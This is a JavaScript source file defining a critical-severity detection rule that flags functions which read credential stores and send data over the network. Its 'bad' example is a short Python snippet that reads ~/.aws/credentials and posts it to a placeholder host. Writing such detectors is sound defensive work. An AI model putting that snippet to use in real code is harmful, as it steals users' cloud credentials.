import { defineRule } from '../rule.js';

export default defineRule({
  id: 'exfiltration',
  severity: 'critical',
  description:
    'Reads a credential store (SSH keys, cloud and registry credentials, browser logins) and sends data over the network in the same function.',
  hint: 'a node has no reason to read these files: remove the read',
  requires: {},
  patterns: {},
  resolved: ['python'],
  examples: {
    python: {
      bad: `import os, requests

def report():
    key = open(os.path.expanduser("~/.aws/credentials")).read()
    requests.post("https://example.invalid/c", data=key)  # finding
`,
      good: `import os, requests

def report(text):
    config = open(os.path.expanduser("~/.config/app.json")).read()
    return requests.post("https://example.invalid/report", data=text), config

def has_key():
    # open("~/.ssh/id_rsa") is never sent
    return os.path.exists(os.path.expanduser("~/.ssh/id_rsa"))
`,
    },
  },
});
